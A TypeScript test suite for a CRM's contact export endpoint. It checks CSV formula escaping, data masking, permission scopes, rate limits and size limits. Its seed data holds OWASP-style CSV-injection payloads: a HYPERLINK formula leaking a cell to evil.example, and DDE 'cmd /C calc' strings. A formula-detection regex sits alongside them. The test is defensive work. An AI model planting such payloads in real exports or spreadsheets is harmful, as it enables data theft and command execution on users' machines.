import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SeparEvent } from '../../src/platform/events.js';
import { systemActor } from '../../src/security/access/index.js';
import { testDialects } from '../support/dialects.js';
import { startHarness, json, type Harness } from '../support/harness.js';
import { createUserWithToken } from '../support/identity.js';

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string, sep = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === sep) {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** Values a spreadsheet would run as formulas (OWASP CSV injection), and ones that only need quoting. */
const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '   =1+1',
  'Comma, "quoted" and ; semicolon',
  'مدیر فروش، «تهران»',
  // A `;` or tab splits a cell where a spreadsheet's locale uses it as separator: the rest must not become a cell.
  'Ali;=HYPERLINK(CHAR(104)&A1);x',
  '\uff1d1+1',
];
const FORMULA = /^[\s\u00a0]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

for (const dialect of await testDialects()) {
  describe(`record export (${dialect})`, () => {
    let h: Harness;
    let admin: { authorization: string };
    let adminId = '';
    let rep: { authorization: string };
    let repId = '';
    const events: SeparEvent[] = [];
    let off: () => void = () => undefined;

    const get = (url: string, headers: Record<string, string>) =>
      h.app.inject({ method: 'GET', url: `/api/v1${url}`, headers });
    const post = (url: string, headers: Record<string, string>, payload: Record<string, unknown>) =>
      h.app.inject({ method: 'POST', url: `/api/v1${url}`, headers, payload });

    beforeAll(async () => {
      h = await startHarness(dialect);
      const a = await createUserWithToken(h, { roles: ['admin'] });
      admin = a.headers;
      adminId = a.userId;
      const r = await createUserWithToken(h, { roles: ['sales-rep'] });
      rep = r.headers;
      repId = r.userId;
      for (const [i, title] of HOSTILE_TITLES.entries()) {
        const c = await post('/contacts', rep, {
          firstName: i % 2 ? 'نیما' : 'Export',
          lastName: `Person${i}`,
          email: `export.${i}@example.com`,
          phone: '+989121112233',
          paymentCard: '4111111111111111',
          title,
        });
        expect(c.statusCode, c.body).toBe(201);
      }
      const other = await createUserWithToken(h, { roles: ['sales-rep'] });
      expect((await post('/contacts', other.headers, { firstName: 'Someone', lastName: 'Else' })).statusCode).toBe(201);
      off = h.rt.bus.subscribe((e) => {
        if (e.type === 'record.exported') events.push(e);
      });
    });
    afterAll(async () => {
      off();
      await h?.close();
    });

    it('gives the admin a spreadsheet-safe CSV of what its list shows, masked as in the list, and records it', async () => {
      const res = await get('/contacts/export', admin);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.body.startsWith('\ufeff')).toBe(true);
      const [header, ...rows] = parseCsv(res.body.slice(1));
      if (!header) throw new Error('no header row');
      const list = json(await get('/contacts?limit=200', admin)) as { items: Record<string, unknown>[] };
      expect(rows).toHaveLength(list.items.length);
      expect(res.headers['x-separ-export-rows']).toBe(String(list.items.length));
      expect(header.slice(0, 2)).toEqual(['id', 'ownerId']);
      for (const col of ['firstName', 'lastName', 'email', 'phone', 'title', 'paymentCard', 'createdAt']) {
        expect(header).toContain(col);
      }
      const at = (row: string[], col: string): string => row[header.indexOf(col)] ?? '';
      for (const row of rows) {
        expect(row).toHaveLength(header.length);
        for (const cell of row) expect(FORMULA.test(cell), `formula cell ${cell}`).toBe(false);
        const item = list.items.find((i) => i.id === at(row, 'id'));
        if (!item) throw new Error(`exported ${at(row, 'id')} is not in the list`);
        // Masked exactly as the list shows it: the admin sees personal and card data masked.
        expect(at(row, 'email')).toBe(item.email ?? '');
        if (typeof item.email === 'string') expect(at(row, 'email')).toContain('*');
        const title = typeof item.title === 'string' ? item.title : '';
        expect(at(row, 'title')).toBe(FORMULA.test(title) ? `'${title}` : title);
      }
      expect(res.body).not.toContain('4111111111111111');
      expect(res.body).not.toContain('export.0@example.com');
      expect(rows.map((r) => at(r, 'title'))).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
      expect(rows.map((r) => at(r, 'title'))).toContain('مدیر فروش، «تهران»');
      expect(rows.map((r) => at(r, 'title'))).toContain("'\uff1d1+1");
      // Every text cell is quoted, so no separator inside one can split it.
      expect(res.body).toContain('"Ali;=HYPERLINK(CHAR(104)&A1);x"');
      // Read as a spreadsheet whose locale separates by `;` or by tabs would: still no cell starts a formula.
      for (const sep of [';', '\t']) {
        for (const cell of parseCsv(res.body.slice(1), sep).flat()) {
          expect(FORMULA.test(cell), `${JSON.stringify(sep)} ${cell}`).toBe(false);
        }
      }
      const event = events.at(-1);
      expect(event?.context.actorId).toBeTruthy();
      expect(event?.detail).toMatchObject({ object: 'contacts', format: 'csv', rows: list.items.length });
      expect(JSON.stringify(event?.detail)).not.toContain('example.com');
    });

    it('writes JSON lines equal to the list items, and honours the list query', async () => {
      const res = await get('/contacts/export?format=ndjson&q=Person3', admin);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
      const lines = res.body
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
      const list = json(await get('/contacts?q=Person3', admin)) as { items: Record<string, unknown>[] };
      expect(lines).toEqual(list.items);
      expect(lines).toHaveLength(1);
    });

    it('is refused to roles without the export permission, to tokens without export scope, and on bad input', async () => {
      expect((await get('/contacts/export', rep)).statusCode).toBe(403);
      const support = (await createUserWithToken(h, { roles: ['support'] })).headers;
      expect((await get('/contacts/export', support)).statusCode).toBe(403);
      const system = systemActor('export-test');
      const readOnly = await h.rt.identity.tokens.createToken(system, {
        userId: adminId,
        name: 'read',
        scopes: ['contacts:read'],
      });
      expect((await get('/contacts/export', { authorization: `Bearer ${readOnly.token}` })).statusCode).toBe(403);
      const exporting = await h.rt.identity.tokens.createToken(system, {
        userId: adminId,
        name: 'export',
        scopes: ['contacts:read', 'contacts:export'],
      });
      expect((await get('/contacts/export', { authorization: `Bearer ${exporting.token}` })).statusCode).toBe(200);
      for (const bad of ['format=xlsx', 'limit=5', 'cursor=abc', 'sort=%00', 'nope=1']) {
        const r = await get(`/contacts/export?${bad}`, admin);
        expect(r.statusCode, `${bad} ${r.body}`).toBe(400);
        expect(r.headers['content-type']).toContain('application/problem+json');
      }
    });

    it("holds only the records and fields of the exporter's scope and field modes", async () => {
      const role = await post('/roles', admin, {
        id: 'own-exporter',
        name: 'Own exporter',
        policy: {
          objects: { contacts: { ops: ['read', 'export'], scope: 'own' } },
          classifications: {
            '*': { public: 'read', internal: 'read', confidential: 'read', restricted: 'none', pci: 'none' },
          },
          fields: {},
          reveal: [],
          capabilities: [],
          ipAllow: [],
        },
      });
      expect(role.statusCode, role.body).toBe(201);
      // It also reads every contact (read-only): an export reaches only what both its read and export grants reach.
      const u = await createUserWithToken(h, { roles: ['read-only', 'own-exporter'] });
      // The exporter owns two contacts, given to it by the admin; nobody else's show.
      for (const n of [1, 2]) {
        const c = await post('/contacts', admin, {
          firstName: `Mine${n}`,
          email: `mine.${n}@example.com`,
          ownerId: u.userId,
        });
        expect(c.statusCode, c.body).toBe(201);
      }
      const res = await get('/contacts/export', u.headers);
      expect(res.statusCode, res.body).toBe(200);
      const [header, ...rows] = parseCsv(res.body.slice(1));
      expect(rows).toHaveLength(2);
      expect(rows.every((r) => r[1] === u.userId)).toBe(true);
      const listed = json(await get('/contacts?limit=200', u.headers)) as { items: unknown[] };
      expect(listed.items.length).toBeGreaterThan(2);
      for (const hidden of ['email', 'phone', 'nationalId', 'birthDate', 'address', 'paymentCard']) {
        expect(header).not.toContain(hidden);
      }
      expect(res.body).not.toContain('mine.1@example.com');
      // Filtering an export by a field the exporter cannot see is refused like the list (no oracle).
      expect((await get('/contacts/export?email=mine.1%40example.com', u.headers)).statusCode).toBe(403);
      void repId;
    });

    it('allows a few exports per user in ten minutes, then answers 429 with Retry-After', async () => {
      const busy = (await createUserWithToken(h, { roles: ['sales-manager'] })).headers;
      for (let i = 0; i < 10; i++) expect((await get('/contacts/export?format=ndjson', busy)).statusCode).toBe(200);
      const over = await get('/contacts/export?format=ndjson', busy);
      expect(over.statusCode, over.body).toBe(429);
      expect((json(over) as { code: string }).code).toBe('SEPAR_ERR_RATE_LIMITED');
      expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
      // Another user is not affected.
      expect((await get('/contacts/export?format=ndjson', admin)).statusCode).toBe(200);
    });

    it('refuses an export larger than its limit instead of sending part of it', async () => {
      const actor = await h.rt.access.resolver.resolve({
        kind: 'user',
        userId: adminId,
        roles: ['admin'],
        sessionId: null,
        tokenId: null,
        scopes: null,
        ip: null,
        userAgent: 'test',
        requestId: null,
      });
      await expect(h.rt.crm.records.contacts.export(actor, {}, 'csv', 3)).rejects.toMatchObject({
        code: 'SEPAR_ERR_EXPORT_TOO_LARGE',
      });
      // The refusal is evidence too: the pages read before it left their read entries.
      expect(events.at(-1)).toMatchObject({ outcome: 'failure', detail: { object: 'contacts', format: 'csv' } });
      const all = await h.rt.crm.records.contacts.export(actor, {}, 'ndjson', 1000);
      expect(all.rows).toBeGreaterThan(3);
    });
  });
}
